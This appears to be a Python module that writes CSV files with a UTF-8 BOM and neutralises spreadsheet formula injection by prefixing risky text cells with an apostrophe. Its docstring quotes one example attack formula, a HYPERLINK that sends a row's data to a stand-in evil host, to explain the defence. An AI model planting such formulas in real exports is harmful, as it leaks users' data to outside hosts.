"""The one way this project writes CSV: UTF-8 with a BOM (Excel then shows Vietnamese), formulas neutralised.

A spreadsheet runs a cell that begins with =, +, -, @, a tab or a carriage return as a formula: a product
named =HYPERLINK("http://evil.example/?x="&A1, "Bấm vào đây") would become a link that sends the row away.
Every text cell that begins so is written with a leading apostrophe, which Excel and LibreOffice show as
text. Numbers stay numbers: -5000 in an amount column is written bare so that it still adds up; only text
is neutralised (a negative amount as text, "-5000", gets the apostrophe like any other text).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from itertools import chain, repeat
from typing import Any, Protocol

BOM = "\ufeff"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(FORMULA_START)  # each is one character


class _TextOut(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralize(value: Any) -> Any:
    """A cell as written: text that a spreadsheet would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class CsvWriter:
    """csv.writer whose every row goes through neutralize()."""

    def __init__(self, out: _TextOut, **options: Any) -> None:
        self._out = out
        self._writer = csv.writer(out, **options)
        self._plain_ok = options == {"lineterminator": "\r\n"}  # the dialect _plain_fields() writes

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, its text cells neutralised."""
        self._writer.writerow([neutralize(value) for value in row])

    def writecolumns(self, columns: Sequence[Sequence[Any]]) -> None:
        """Write the rows whose cells are given a column at a time (of equal length), text cells neutralised: a
        few operations per column, far cheaper than a call per row or per cell on a long export. Where every
        column's cells are written as they are (ints; texts without a comma, a quote or a line break; None), the
        rows are joined here; otherwise the csv module writes them (the same bytes either way)."""
        cells = [_neutralized(column) for column in columns]
        fields = [_plain_fields(column) for column in cells] if self._plain_ok and len(cells) > 1 else [None]
        if any(f is None for f in fields):
            self._writer.writerows(zip(*cells, strict=True))
            return
        parts: list[Iterable[str]] = []  # a row: each field, a comma between two, CRLF after the last
        for field in fields[:-1]:
            parts += (field, repeat(","))
        parts += (fields[-1], repeat("\r\n"))
        self._out.write("".join(chain.from_iterable(zip(*parts, strict=False))))  # the fields end it, not repeat()


def _neutralized(column: Sequence[Any]) -> Sequence[Any]:
    """``column`` with neutralize() applied to every cell, checked at once where it holds no text or no formula."""
    kinds = set(map(type, column))
    if not any(issubclass(kind, str) for kind in kinds):
        return column  # numbers and empty cells are never formulas
    if kinds == {str}:
        joined = "\n".join(column)  # a formula start after a newline is a cell's (or a line inside one: rechecked)
        if joined[:1] not in _FORMULA_FIRST and not any("\n" + start in joined for start in FORMULA_START):
            return column
    first = _FORMULA_FIRST
    return [("'" + v) if isinstance(v, str) and v[:1] in first else v for v in column]


def _plain_fields(column: Sequence[Any]) -> Sequence[str] | None:
    """The cells of ``column`` as the csv module writes them in a row of several (QUOTE_MINIMAL, CRLF): ints as
    str(), None as empty, texts as they are unless they need quoting; None if any cell is of another kind or needs
    quoting, for the csv module to write."""
    kinds = set(map(type, column))
    if kinds == {str}:
        joined = "".join(column)
        if "," in joined or '"' in joined or "\r" in joined or "\n" in joined:
            return None
        return column
    if kinds <= {int, type(None)}:
        return list(map(str, column)) if type(None) not in kinds else ["" if v is None else str(v) for v in column]
    return None


def csv_writer(out: _TextOut, *, bom: bool = True) -> CsvWriter:
    """A writer of CRLF-terminated rows into ``out``, after the BOM unless ``bom`` is False."""
    if bom:
        out.write(BOM)
    return CsvWriter(out, lineterminator="\r\n")
